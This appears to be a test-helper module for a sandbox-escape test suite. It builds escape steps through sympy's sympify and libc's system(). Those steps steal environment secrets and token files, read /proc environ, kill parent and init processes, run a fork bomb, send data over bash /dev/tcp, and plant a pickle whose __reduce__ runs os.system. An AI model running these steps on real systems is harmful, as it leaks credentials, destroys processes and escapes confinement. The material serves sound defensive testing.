"""Hostile code steps, each written through two routes to full code execution inside the python
tool's worker, so that tests assume no in-interpreter guard holds:

- `via_sympy(src)`: `sympy.sympify` evaluates Python; the step execs `src` (any Python) and shows
  what `src` left in `sys._out` as its last value;
- `via_libc(shell)`: numpy's ctypeslib loads libc; the step runs `shell` with libc's `system` and
  prints its exit status (0: the command succeeded).

Secrets, paths and ports are the test's own, so a leak or an escape is seen by value.
"""

from __future__ import annotations

import base64
import os
from pathlib import Path

SECRETS = {
    "HF_TOKEN": "hf_TESTSECRETvalue0123456789",
    "OPENAI_API_KEY": "sk-TESTSECRET-abcdefghijklmnop",
    "DB_PASSWORD": "pw-TESTSECRET-42424242",
}
SURVIVOR_SECONDS = 4242  # `sleep 4242`: a process a hostile step leaves behind, found by its argv
LIBC = "import numpy as np\nlibc = np.ctypeslib.load_library('libc.so.6', '/usr/lib/x86_64-linux-gnu')\n"


def via_sympy(src: str) -> str:
    """A step that runs `src` as full Python through sympify; its last value is `sys._out`."""
    code = base64.b64encode(src.encode()).decode()
    run = f"__import__('builtins').exec(__import__('base64').b64decode('{code}').decode(), {{}})"
    return f'import sympy\nsympy.sympify("{run}")\nsympy.sympify("__import__(\'sys\')._out")'


def via_libc(shell: str) -> str:
    """A step that runs `shell` through libc's system() and prints its exit status."""
    return f"{LIBC}print(libc.system({shell.encode()!r}))"


def attacks(home: Path, outside: Path, port: int) -> dict[str, tuple[str, str]]:
    """Name -> (sympy step, libc step) for every threat; `home` holds a token file, `outside` (and
    `unpickled(outside)`) are paths that must never be created, `port` a listener never reached."""
    token = home / ".cache" / "huggingface" / "token"
    return {
        "environment secrets": (
            via_sympy("import os, sys\nsys._out = sorted(os.environ)"),
            via_libc('test -n "$HF_TOKEN$OPENAI_API_KEY$DB_PASSWORD"'),
        ),
        "token file in home": (
            via_sympy(f"import sys\nsys._out = open({str(token)!r}).read()"),
            via_libc(f"cat {token} || cat /root/.cache/huggingface/token"),
        ),
        "proc environ": (
            via_sympy(
                "import sys, os\nsys._out = [open(f'/proc/{p}/environ', 'rb').read() "
                "for p in os.listdir('/proc') if p.isdigit()]"
            ),
            via_libc("cat /proc/*/environ | grep -q TESTSECRET"),
        ),
        "write outside": (
            via_sympy(f"import sys\nopen({str(outside)!r}, 'w').write('escaped')\nsys._out = 'wrote'"),
            via_libc(f"echo escaped > {outside}"),
        ),
        "kill ancestors": (
            via_sympy(
                "import os, sys, signal\nfor pid in (os.getppid(), 1, -1):\n"
                "    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass\n"
                "sys._out = 'still here'"
            ),
            via_libc("kill -9 $PPID 1 -1"),
        ),
        "surviving processes": (
            via_sympy(
                f"import os, sys\nif os.fork() == 0:\n    os.setsid()\n"
                f"    os.execv('/usr/bin/sleep', ['sleep', '{SURVIVOR_SECONDS}'])\nsys._out = 'forked'"
            ),
            via_libc(f"setsid sleep {SURVIVOR_SECONDS} > /dev/null 2>&1 < /dev/null &"),
        ),
        "fork bomb": (
            via_sympy("import os, sys\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"),
            via_libc("bomb() { bomb | bomb & }; bomb"),
        ),
        "network": (
            via_sympy(f"import socket, sys\nsys._out = socket.create_connection(('127.0.0.1', {port}), 2).recv(9)"),
            via_libc(f"bash -c 'echo escaped > /dev/tcp/127.0.0.1/{port}'"),
        ),
        "forged channel message": (
            via_sympy(FORGE_SRC.format(marker=unpickled(outside))),
            f"{LIBC}import numpy as np\nfor fd in range(3, 64):\n"
            "    libc.write(fd, b'\\xff\\xff\\xff\\xff garbage', 13)\nprint('sent')",
        ),
    }


# A pickle that would create a file if anything unpickled it, a frame too long to accept, and frames
# of the right length but the wrong shape, written to every descriptor of the step's process.
FORGE_SRC = """
import os, pickle, struct, sys, json
class Boom:
    def __reduce__(self):
        return (os.system, ('touch {marker}',))
frames = [pickle.dumps(Boom())]
for message in ({{"done": {{"logs": 5}}}}, {{"tool": "rm -rf /"}}, {{"pid": -1}}):
    body = json.dumps(message).encode()
    frames.append(struct.pack('>I', len(body)) + body)
frames.append(struct.pack('>I', 2**31) + b'{{')
for fd in range(3, 64):
    for frame in frames:
        try:
            os.write(fd, frame)
        except OSError:
            pass
sys._out = 'sent'
"""


def unpickled(outside: Path) -> Path:
    """The file the forged pickle would create if curate unpickled it."""
    return outside.with_name(outside.name + ".unpickled")


def environment_with_secrets(home: Path) -> dict[str, str]:
    """This process's environment plus the test secrets, with HOME at `home` (which holds a token file)."""
    token = home / ".cache" / "huggingface" / "token"
    token.parent.mkdir(parents=True, exist_ok=True)
    token.write_text(SECRETS["HF_TOKEN"])
    return {**os.environ, **SECRETS, "HOME": str(home)}


def survivors() -> list[int]:
    """Host pids of `sleep SURVIVOR_SECONDS` processes."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                argv = (entry / "cmdline").read_bytes().split(b"\0")
            except OSError:
                continue
            if argv[:2] == [b"sleep", str(SURVIVOR_SECONDS).encode()]:
                found.append(int(entry.name))
    return found
